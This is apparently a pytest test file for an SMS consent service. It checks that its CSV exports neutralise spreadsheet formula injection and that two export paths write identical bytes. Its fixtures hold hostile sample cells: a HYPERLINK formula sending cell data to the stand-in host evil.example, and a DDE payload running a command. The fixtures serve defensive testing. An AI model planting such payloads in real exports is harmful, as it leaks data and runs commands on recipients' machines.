"""Exports: PostgreSQL's COPY path and the Python row path write the same bytes, cells a
supporter could have typed are spreadsheet-safe unless ``--raw``, on both databases."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime

import pytest
from click.testing import CliRunner
from sqlmodel import Session

from sms_service.cli.main import main
from sms_service.models import Campaign, ConsentEvent, Signature, Subscriber
from sms_service.services.exports import (
    ExportFilter,
    consent_export,
    signature_export,
    write_consent,
    write_export,
)
from tests.factories import text_in

A, B = "+12025550123", "+14155550100"
HYPERLINK = '=HYPERLINK("https://evil.example/?"&A1,"Click") stop'
CALC = "=cmd|' /C calc'!A0"


def at(day: int, micro: int = 0) -> datetime:
    return datetime(2026, 1, day, 9, 30, 5, micro, tzinfo=UTC)


def seed(engine) -> None:
    """Events and signatures with every kind of awkward cell."""
    with Session(engine) as s:
        hk = Campaign(keyword="HK64", title="Release the 64, now", created_at=at(1))
        s.add(hk)
        s.flush()
        common = dict(source="sms", program="Rights Alerts")
        s.add_all(
            [
                ConsentEvent(
                    occurred_at=at(1), phone=A, event="opt_in", keyword="JOIN",
                    message_body="JOIN", message_sid="SM1",
                    disclosure='Rights Alerts: Reply "STOP" to end, HELP for help', **common,
                ),
                ConsentEvent(
                    occurred_at=at(1, 123), phone=A, event="possible_opt_out",
                    message_body=HYPERLINK, message_sid="SM2", review_by=date(2026, 1, 15),
                    note="line one\nline two", **common,
                ),
                ConsentEvent(
                    occurred_at=at(2, 999999), phone=B, event="signature", keyword="HK64",
                    message_body="-2+3", message_sid="SM3", campaign_id=hk.id,
                    note="\tsee ticket", source="web", program="Rights Alerts",
                ),
                ConsentEvent(
                    occurred_at=at(3), phone=B, event="opt_out", keyword="STOP",
                    message_body="@SUM(1,2) stop\r\nplease", message_sid="SM4", note="",
                    **common,
                ),
                ConsentEvent(
                    occurred_at=at(4, 500000), phone=A, event="help", keyword="",
                    message_body="+1", message_sid="\r=SM5", note="Señora Núñez 🛑 -5",
                    **common,
                ),
            ]
        )  # fmt: skip
        a = Subscriber(phone=A, status="subscribed")
        b = Subscriber(phone=B, status="subscribed")
        s.add_all([a, b])
        s.flush()
        s.add_all(
            [
                Signature(campaign_id=hk.id, subscriber_id=a.id, name=CALC, signed_at=at(1)),
                Signature(
                    campaign_id=hk.id, subscriber_id=b.id, name='Ada "Countess" Lovelace',
                    source="web", signed_at=at(2, 42),
                ),
            ]
        )  # fmt: skip
        s.commit()


CONSENT_SAFE = (
    "occurred_at,phone_number,event,keyword,message_body,message_sid,source,program,"
    "disclosure,campaign,review_by,note,event_id,chain_position,prev_hash,hash\r\n"
    "2026-01-01T09:30:05+00:00,+12025550123,opt_in,JOIN,JOIN,SM1,sms,Rights Alerts,"
    '"Rights Alerts: Reply ""STOP"" to end, HELP for help",,,,1,,,\r\n'
    "2026-01-01T09:30:05.000123+00:00,+12025550123,possible_opt_out,,"
    '"\'=HYPERLINK(""https://evil.example/?""&A1,""Click"") stop",SM2,sms,Rights Alerts,,,'
    '2026-01-15,"line one\nline two",2,,,\r\n'
    "2026-01-02T09:30:05.999999+00:00,+14155550100,signature,HK64,'-2+3,SM3,web,"
    "Rights Alerts,,HK64,,'\tsee ticket,3,,,\r\n"
    "2026-01-03T09:30:05+00:00,+14155550100,opt_out,STOP,"
    '"\'@SUM(1,2) stop\r\nplease",SM4,sms,Rights Alerts,,,,,4,,,\r\n'
    '2026-01-04T09:30:05.500000+00:00,+12025550123,help,,+1,"\'\r=SM5",sms,Rights Alerts,'
    ",,,Señora Núñez 🛑 -5,5,,,\r\n"
)
SIGNATURES_SAFE = (
    "signed_at,phone_number,name,campaign,campaign_title,source,email\r\n"
    "2026-01-01T09:30:05+00:00,+12025550123,'=cmd|' /C calc'!A0,HK64,"
    '"Release the 64, now",sms,\r\n'
    '2026-01-02T09:30:05.000042+00:00,+14155550100,"Ada ""Countess"" Lovelace",HK64,'
    '"Release the 64, now",web,\r\n'
)


def export_bytes(engine, export, **kwargs) -> bytes:
    out = io.BytesIO()
    write_export(engine, out, export, **kwargs)
    return out.getvalue()


@pytest.fixture
def engine(app):
    engine = app.extensions["sms_engine"]
    seed(engine)
    return engine


def test_exports_are_spreadsheet_safe_with_the_exact_expected_bytes(engine):
    """On PostgreSQL (COPY) and on SQLite (row path) alike."""
    assert export_bytes(engine, consent_export(ExportFilter())) == CONSENT_SAFE.encode()
    assert export_bytes(engine, signature_export(ExportFilter())) == SIGNATURES_SAFE.encode()


def test_raw_keeps_every_stored_value_exactly(engine):
    rows = list(
        csv.reader(
            io.StringIO(
                export_bytes(engine, consent_export(ExportFilter()), raw=True).decode(), newline=""
            )
        )
    )
    bodies = [r[4] for r in rows[1:]]
    assert bodies == ["JOIN", HYPERLINK, "-2+3", "@SUM(1,2) stop\r\nplease", "+1"]
    assert [r[5] for r in rows[1:]][-1] == "\r=SM5"
    assert [r[11] for r in rows[1:]][2] == "\tsee ticket"
    sigs = list(
        csv.reader(
            io.StringIO(
                export_bytes(engine, signature_export(ExportFilter()), raw=True).decode(),
                newline="",
            )
        )
    )
    assert sigs[1][2] == CALC


@pytest.mark.parametrize("raw", [False, True])
@pytest.mark.parametrize(
    "build",
    [
        lambda: consent_export(ExportFilter()),
        lambda: consent_export(ExportFilter(), opt_outs_only=True),
        lambda: consent_export(ExportFilter(since=at(1, 1), until=at(4), phone=B)),
        lambda: consent_export(ExportFilter(until=at(1, 123))),
        lambda: signature_export(ExportFilter(), campaign="hk64"),
        lambda: signature_export(ExportFilter(since=at(2)), campaign="OTHER"),
    ],
)
def test_copy_and_row_paths_write_identical_bytes_on_postgresql(pg_db, build, raw):
    from sms_service.db import make_engine

    engine = make_engine(pg_db)
    try:
        seed(engine)
        export = build()
        copied = export_bytes(engine, export, raw=raw, use_copy=True)
        streamed = export_bytes(engine, export, raw=raw, use_copy=False)
        assert copied == streamed
        assert copied.count(b"\r\n") >= 1  # at least the header: the comparison says something
    finally:
        engine.dispose()


def test_copy_path_counts_rows_and_writes_to_text_streams(pg_db):
    from sms_service.db import make_engine

    engine = make_engine(pg_db)
    try:
        seed(engine)
        text_out = io.StringIO()
        assert write_consent(engine, text_out, ExportFilter(phone=A)) == 3
        assert text_out.getvalue().encode() == export_bytes(
            engine, consent_export(ExportFilter(phone=A)), use_copy=False
        )
    finally:
        engine.dispose()


def test_a_texted_formula_is_neutralised_in_the_cli_export_unless_raw(
    monkeypatch, database_url, client, settings, tmp_path
):
    monkeypatch.setenv("DATABASE_URL", database_url)
    text_in(client, settings, A, "JOIN")
    text_in(client, settings, A, HYPERLINK)
    runner = CliRunner()
    safe = runner.invoke(main, ["export", "consent"], catch_exceptions=False)
    assert safe.exit_code == 0
    cells = [c for row in csv.reader(io.StringIO(safe.stdout, newline="")) for c in row]
    assert "'" + HYPERLINK in cells
    assert not [c for c in cells if c[:1] in ("=", "@", "\t", "\r")]
    out = tmp_path / "raw.csv"
    raw = runner.invoke(main, ["export", "consent", "--raw", "-o", str(out)])
    assert raw.exit_code == 0
    with open(out, newline="", encoding="utf-8") as f:
        assert HYPERLINK in [c for row in csv.reader(f) for c in row]


# First characters around the formula starts and the plain-number rule, for the SQL cell
# (which reads the first character's code) against domain.spreadsheet's Python rule.
AWKWARD = [
    "", "-", "+", "=", "@", "\t", "\r", "\n=1", " =1", "+.5", "-1.", "-1.5", "+12", "1e5", "0=1",
    "+1 202", "A=1", "Ñ=1", "🛑 stop", "\u00a0=1", "'=1", ">", "?", "[", "9", ":", "<=",
]  # fmt: skip


def awkward_events() -> list[ConsentEvent]:
    """One event per AWKWARD cell, in every text column, a microsecond apart."""
    return [
        ConsentEvent(
            occurred_at=at(5, i), phone=A, event="help", keyword=cell[:32],
            message_body=cell, message_sid=cell[:64], source="sms",
            program="Rights Alerts", disclosure=cell, note=cell,
        )
        for i, cell in enumerate(AWKWARD)
    ]  # fmt: skip


@pytest.mark.parametrize("raw", [False, True])
def test_copy_and_row_paths_agree_on_every_first_character(pg_db, raw):
    from sms_service.db import make_engine
    from sms_service.domain.spreadsheet import spreadsheet_safe

    engine = make_engine(pg_db)
    try:
        with Session(engine) as s:
            s.add_all(awkward_events())
            s.commit()
        export = consent_export(ExportFilter())
        copied = export_bytes(engine, export, raw=raw, use_copy=True)
        assert copied == export_bytes(engine, export, raw=raw, use_copy=False)
        rows = list(csv.reader(io.StringIO(copied.decode(), newline="")))[1:]
        expected = AWKWARD if raw else [spreadsheet_safe(c) for c in AWKWARD]
        assert [r[4] for r in rows] == expected
        assert [r[12] for r in rows] == [str(i) for i in range(1, len(AWKWARD) + 1)]
    finally:
        engine.dispose()


def test_an_error_the_server_raises_mid_copy_is_raised_and_the_connection_goes_on(pg_db):
    """The COPY path reads rows straight from libpq; an error after some rows (here a
    division by zero at the fourth) still comes out as psycopg's error, and the
    connection can be used afterwards."""
    import psycopg

    from sms_service.services.copy_out import drain

    written = []
    dsn = pg_db.replace("postgresql+psycopg://", "postgresql://")
    with psycopg.connect(dsn) as conn:
        statement = "COPY (SELECT 12 / (4 - g) FROM generate_series(1, 6) AS g) TO STDOUT"
        with pytest.raises(psycopg.errors.DivisionByZero):
            with conn.cursor() as cursor, cursor.copy(statement):
                drain(conn.pgconn, written.append)
        conn.rollback()
        assert conn.execute("SELECT 1").fetchone() == (1,)
        with conn.cursor() as cursor, cursor.copy("COPY (SELECT 'a,b' AS x) TO STDOUT CSV"):
            assert drain(conn.pgconn, written.append) == 1
    assert b"".join(written) == b'"a,b"\r\n'  # the three rows before the error were not flushed
